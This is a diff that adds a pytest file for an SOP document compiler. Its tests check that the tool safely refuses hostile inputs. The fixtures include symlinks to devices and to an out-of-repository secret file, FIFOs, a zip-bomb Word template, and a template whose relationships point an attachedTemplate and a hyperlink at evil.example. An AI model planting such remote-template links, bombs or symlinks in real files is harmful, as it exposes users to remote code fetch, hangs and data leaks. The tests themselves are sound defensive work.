@@ -1,0 +1,156 @@
+"""Hostile repositories, careless users, flaky machines (issue 12): each defect found, through the CLI.
+
+Grouped as the issue groups them; each group is guarded in one place (named in each section).
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import shutil
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import compose_sop, run_cli
+
+EXAMPLES = Path(__file__).parents[1] / "examples"
+ONE = "umum/peminjaman-ruang-rapat.sop.yaml"
+posix_only = pytest.mark.skipif(os.name != "posix", reason="FIFOs, devices and links as POSIX has them")
+
+
+@pytest.fixture
+def examples(tmp_path: Path) -> Path:
+    root = tmp_path / "repo"
+    shutil.copytree(EXAMPLES, root)
+    return root
+
+
+# --- B. bounded reads, D. nothing leaks: sopc/source/files.py (read_file) --------------------------
+
+
+@posix_only
+@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
+def test_a_sop_linked_to_a_device_is_refused_not_read_forever(examples: Path, device: str) -> None:
+    (examples / "umum" / "nol.sop.yaml").symlink_to(device)
+    result = run_cli("lint", str(examples), "--lang", "en")
+    assert result.exit_code == 1
+    assert "nol.sop.yaml:1:1: error SY08" in result.output
+    assert "outside the repository (/dev/" in result.output  # and, were it inside, not a regular file:
+    from sopc.source.files import RefusedFile, read_file
+
+    with pytest.raises(RefusedFile, match="not a regular file"):
+        read_file(examples / "umum" / "nol.sop.yaml", 1024)
+
+
+@posix_only
+def test_a_fifo_sop_is_refused_by_lint_build_and_fix_without_waiting(examples: Path, tmp_path: Path) -> None:
+    os.mkfifo(examples / "umum" / "pipa.sop.yaml")
+    for args in (["lint"], ["lint", "--fix"], ["build", "-o", str(tmp_path / "out"), "--format", "svg"]):
+        result = run_cli(*args, str(examples), "--lang", "en")
+        assert result.exit_code == 1, args
+        assert "pipa.sop.yaml:1:1: error SY08" in result.output + result.stderr, args
+
+
+@posix_only
+def test_a_fifo_logo_or_template_does_not_hang_the_build(examples: Path, tmp_path: Path) -> None:
+    os.mkfifo(examples / "kop.docx")
+    config = examples / "sopc.toml"
+    config.write_text(config.read_text().replace("[document]\n", '[document]\ntemplate = "kop.docx"\n'))
+    result = run_cli("build", str(examples), "-o", str(tmp_path / "out"), "--lang", "en")
+    assert result.exit_code == 2 and "not a regular file" in result.stderr
+    config.write_text(config.read_text().replace('template = "kop.docx"\n', ""))
+    (examples / "logo-sukamaju.png").unlink()
+    os.mkfifo(examples / "logo-sukamaju.png")
+    result = run_cli("build", str(examples), "-o", str(tmp_path / "out"), "--format", "docx", "--lang", "en")
+    assert result.exit_code == 0 and "not a regular file" in result.stderr and "built without it" in result.stderr
+
+
+@posix_only
+def test_a_sop_linked_out_of_the_repository_is_not_quoted(examples: Path, tmp_path: Path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("AWS_SECRET_ACCESS_KEY: hunter2\n")
+    (examples / "umum" / "rahasia.sop.yaml").symlink_to(secret)
+    for args in (["lint"], ["build", "-o", str(tmp_path / "out"), "--format", "svg"]):
+        result = run_cli(*args, str(examples), "--lang", "en")
+        assert "hunter2" not in result.output + result.stderr
+        assert "rahasia.sop.yaml:1:1: error SY08" in result.output and "outside the repository" in result.output
+
+
+def test_a_link_inside_the_repository_is_read(examples: Path) -> None:
+    if os.name != "posix":
+        pytest.skip("links as POSIX has them")
+    (examples / "umum" / "salinan.sop.yaml").symlink_to(examples / ONE)
+    result = run_cli("lint", str(examples / "umum" / "salinan.sop.yaml"), "--lang", "en")
+    assert "SY08" not in result.output
+
+
+def _docx_with(parts: dict[str, bytes], edits: dict[str, tuple[bytes, bytes]]) -> bytes:
+    """sopc's own reference document with `parts` added and one (old, new) replacement in some parts."""
+    from importlib import resources
+
+    data = resources.files("sopc.templates").joinpath("reference.docx").read_bytes()
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name in src.namelist():
+            body = src.read(name)
+            if name in edits:
+                assert edits[name][0] in body
+                body = body.replace(*edits[name])
+            dst.writestr(name, body)
+        for name, body in parts.items():
+            dst.writestr(name, body)
+    return out.getvalue()
+
+
+def _use_template(root: Path, data: bytes) -> None:
+    (root / "kop.docx").write_bytes(data)
+    config = root / "sopc.toml"
+    config.write_text(config.read_text().replace("[document]\n", '[document]\ntemplate = "kop.docx"\n'))
+
+
+def test_a_zip_bomb_template_is_refused_before_it_is_unpacked(examples: Path, tmp_path: Path) -> None:
+    bomb = _docx_with({"word/media/bom.bin": b"\0" * (80 * 1024 * 1024)}, {})
+    assert len(bomb) < 1024 * 1024
+    _use_template(examples, bomb)
+    result = run_cli("build", str(examples), "-o", str(tmp_path / "out"), "--format", "docx", "--lang", "en")
+    assert result.exit_code == 2
+    assert "kop.docx is not a Word document" in result.stderr and "unpacks to" in result.stderr
+    assert not list(tmp_path.joinpath("out").rglob("*.docx"))
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def test_a_templates_remote_template_links_and_unused_parts_stay_out_of_every_document(
+        examples: Path, tmp_path: Path) -> None:
+    remote = (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+              f'<Relationship Id="rIdT" Type="{REL}attachedTemplate" Target="https://evil.example/t.dotm" '
+              f'TargetMode="External"/></Relationships>').encode()
+    extra = (f'<Relationship Id="rIdX" Type="{REL}hyperlink" Target="https://evil.example/" TargetMode="External"/>'
+             f'<Relationship Id="rIdB" Type="{REL}image" Target="media/besar.png"/></Relationships>').encode()
+    data = _docx_with({"word/media/besar.png": b"\x89PNG" + b"\1" * 3_000_000, "word/_rels/settings.xml.rels": remote},
+                      {"word/_rels/document.xml.rels": (b"</Relationships>", extra),
+                       "word/settings.xml": (b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>'),
+                       "[Content_Types].xml": (b"<Default ",
+                                               b'<Default Extension="png" ContentType="image/png"/><Default ')})
+    _use_template(examples, data)
+    out = tmp_path / "out"
+    result = run_cli("build", str(examples / ONE), "-o", str(out), "--format", "docx", "--lang", "en")
+    assert result.exit_code == 0, result.stderr
+    with zipfile.ZipFile(out / "peminjaman-ruang-rapat.docx") as z:
+        everything = b"".join(z.read(n) for n in z.namelist())
+        names = z.namelist()
+    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
+    assert "word/media/besar.png" not in names and "word/styles.xml" in names
+    from docx import Document
+
+    assert Document(str(out / "peminjaman-ruang-rapat.docx")).tables  # still a document Word opens
+
+
+def test_a_sop_file_larger_than_the_limit_is_refused_by_its_size(repo) -> None:
+    root = repo({"besar.sop.yaml": compose_sop("nama: X\n") + "# " + "x" * 2_000_000 + "\n"})
+    result = run_cli("lint", str(root), "--lang", "en")
+    assert result.exit_code == 1 and "besar.sop.yaml:1:1: error SY05" in result.output
+
